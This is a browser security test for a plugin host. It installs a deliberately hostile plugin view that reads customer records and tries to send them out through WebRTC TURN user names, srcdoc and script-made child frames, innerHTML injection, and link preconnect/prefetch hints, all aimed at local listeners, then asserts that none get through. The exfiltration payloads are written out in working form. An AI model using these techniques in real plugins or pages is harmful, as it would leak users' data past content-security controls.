/**
 * A plugin view that reads customers through the bridge and tries to send them out where the
 * frame's CSP does not look: WebRTC (an RTCPeerConnection whose TURN server is a local UDP
 * listener, the data in the user name, as the red team did), a fresh window from a `srcdoc`
 * child frame (static in the markup, and made by script), and `<link rel=preconnect|prefetch>`
 * to a local TCP listener. No UDP packet and no TCP connection may arrive, and the RTC interfaces
 * must be gone from the view's window (plugins/host/view_lockdown.ts). The one channel a page
 * cannot close, the frame navigating itself, is documented, not tested here.
 */
import assert from "node:assert/strict";
import dgram from "node:dgram";
import net from "node:net";
import type { Frame } from "puppeteer-core";
import { signUpTenant, startTestServer } from "../helpers/server.ts";
import { apiClient } from "../helpers/api.ts";
import { putInState } from "../helpers/billing.ts";
import { installForTest } from "../helpers/plugins.ts";
import { bundleFrom } from "../../plugins/host/bundle.ts";
import { launchBrowser, signInThroughPage } from "./browser.ts";

function view(udpPort: number, tcpPort: number): string {
  const turn = `turn:127.0.0.1:${udpPort}?transport=udp`;
  const tcp = `http://127.0.0.1:${tcpPort}`;
  // Tags made by script are spelled with L ("<") so that only the lockdown's Trusted Types
  // policy, not the markup's renaming, can stop them.
  return `<!doctype html><html><head><meta charset="utf-8">
<link rel="preconnect" href="${tcp}/static-preconnect">
<link rel="prefetch" href="${tcp}/static-prefetch">
</head><body><pre id="out">running</pre>
<iframe srcdoc="<script>(async()=>{const pc=new RTCPeerConnection({iceServers:[{urls:'${turn}',username:'LEAK-static-srcdoc',credential:'x'}]});pc.createDataChannel('x');await pc.setLocalDescription(await pc.createOffer());parent.postMessage('srcdoc-ran','*')})()</script>"></iframe>
<script>
const R = {}, L = String.fromCharCode(60);
const attempt = async (name, fn) => {
  try { R[name] = { ok: true, value: String(await fn()).slice(0, 300) }; }
  catch (e) { R[name] = { ok: false, error: String(e && e.name || e) }; }
};
const leak = async (C, data) => {
  const pc = new C({ iceServers: [{ urls: ${
    JSON.stringify(turn)
  }, username: data, credential: "x" }] });
  pc.createDataChannel("x");
  await pc.setLocalDescription(await pc.createOffer());
  return "sent";
};
let seq = 0;
const ask = (call, args) => new Promise((resolve) => {
  const id = ++seq;
  addEventListener("message", function on(e) {
    if (e.data && e.data.id === id) { removeEventListener("message", on); resolve(e.data); }
  });
  parent.postMessage({ id, call, args }, "*");
});
addEventListener("message", (e) => { if (typeof e.data === "string") R.childMessage = e.data; });
(async () => {
  const list = await ask("records.list", ["customers", {}]);
  const data = "LEAK-" + JSON.stringify(list.value.data.map((c) => [c.name, c.credit_limit_cents]));
  R.read = { ok: list.ok, value: data };
  R.types = ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel", "RTCIceCandidate",
    "RTCSessionDescription"].map((n) => typeof window[n]).join(",");
  await attempt("direct", () => leak(window.RTCPeerConnection, data));
  await attempt("restored", () => { window.RTCPeerConnection = function () {}; return typeof RTCPeerConnection; });
  await attempt("childFrame", () => {
    const f = document.createElement("iframe");
    document.body.append(f);
    return leak(f.contentWindow.RTCPeerConnection, data);
  });
  await attempt("innerHTMLSrcdoc", () => {
    const d = document.createElement("div");
    d.innerHTML = L + "iframe srcdoc=\\"" + L + "script>parent.postMessage('inner-ran','*')" + L + "/script>\\">" + L + "/iframe><b>kept</b>";
    document.body.append(d);
    return d.innerHTML;
  });
  await attempt("innerHTMLLink", () => {
    const d = document.createElement("div");
    d.innerHTML = L + "link rel=preconnect href=${tcp}/inner-preconnect>";
    document.body.append(d);
    return d.children.length;
  });
  await attempt("createLink", () => {
    const l = document.createElement("link");
    l.rel = "preconnect"; l.href = "${tcp}/created-preconnect";
    document.head.append(l);
    return "appended";
  });
  await attempt("ownPolicy", () => trustedTypes.createPolicy("default", { createHTML: (s) => s }));
  await new Promise((r) => setTimeout(r, 3000));
  document.getElementById("out").textContent = JSON.stringify(R);
  document.body.dataset.done = "1";
})();
</script></body></html>`;
}

Deno.test("a plugin view cannot send records out over WebRTC, child frames or link hints", async () => {
  const udp = dgram.createSocket("udp4");
  const packets: string[] = [];
  udp.on("message", (m) => packets.push(m.toString("latin1")));
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", () => resolve()));
  const tcpHits: string[] = [];
  const sockets = new Set<net.Socket>();
  const tcp = net.createServer((s) => {
    sockets.add(s);
    tcpHits.push("connection");
    s.on("data", (d) => tcpHits.push(d.toString().split("\r\n")[0]!));
    s.on("close", () => sockets.delete(s));
    s.end();
  });
  await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", () => resolve()));
  const udpPort = (udp.address() as { port: number }).port;
  const tcpPort = (tcp.address() as net.AddressInfo).port;

  const server = await startTestServer();
  const session = await launchBrowser();
  try {
    const tenant = await signUpTenant(server);
    await putInState(server.services, tenant.tenantId, "enterprise", "active");
    const api = await apiClient(server, tenant);
    await api.ok("POST", "/api/v1/customers", {
      name: "Secret Grocers",
      credit_limit_cents: 5_000_000,
    }, 201);
    await installForTest(
      server.services,
      tenant.tenantId,
      bundleFrom(
        "private",
        JSON.stringify({
          name: "rt-webrtc",
          title: "RT WebRTC",
          version: "1.0.0",
          apiVersion: "^1.0.0",
          permissions: ["read:customers"],
          allowedDomains: [],
          entryPoints: { views: [{ id: "probe", title: "Probe", file: "probe.html" }] },
        }),
        "export const x = 1;",
        { "probe.html": view(udpPort, tcpPort) },
      ),
    );

    const page = await session.newPage();
    await signInThroughPage(page, server.port, tenant);
    await page.goto(`http://${tenant.host}:${server.port}/plugins/rt-webrtc/views/probe`);
    const frame = await waitForFrame(page.frames.bind(page), "/plugin-frames/rt-webrtc/probe");
    await frame.waitForSelector("body[data-done='1']", { timeout: 30_000 });
    const results = JSON.parse(await frame.$eval("#out", (el) => el.textContent ?? "{}"));
    // Give any packet time to arrive.
    await new Promise((r) => setTimeout(r, 1500));

    // The view did get the data (so a leak would have had something to send)...
    assert.equal(results.read.ok, true);
    assert.match(results.read.value, /Secret Grocers/);
    // ...but no RTC interface is left, nor can one be put back or found in a child frame.
    assert.equal(results.types, "undefined,undefined,undefined,undefined,undefined");
    assert.equal(results.direct.ok, false, JSON.stringify(results.direct));
    assert.equal(results.restored.value, "undefined", JSON.stringify(results.restored));
    assert.equal(results.childFrame.ok, false, JSON.stringify(results.childFrame));
    assert.equal(
      results.innerHTMLSrcdoc.value,
      "<b>kept</b>",
      "the frame is stripped, not the rest",
    );
    assert.equal(results.innerHTMLLink.value, "0");
    assert.equal(results.createLink.ok, false);
    assert.equal(results.ownPolicy.ok, false, "the plugin cannot make its own HTML policy");
    assert.equal(results.childMessage, undefined, "no child frame ran a script");
    assert.deepEqual(packets, [], "no UDP packet reached the listener");
    assert.deepEqual(tcpHits, [], "no TCP connection reached the listener");
  } finally {
    await session.close();
    await server.close();
    for (const s of sockets) s.destroy();
    await new Promise<void>((resolve) => tcp.close(() => resolve()));
    await new Promise<void>((resolve) => udp.close(() => resolve()));
  }
});

async function waitForFrame(frames: () => Frame[], path: string): Promise<Frame> {
  const end = Date.now() + 15_000;
  while (Date.now() < end) {
    const found = frames().find((f) => f.url().includes(path));
    if (found) return found;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`no frame ${path}`);
}
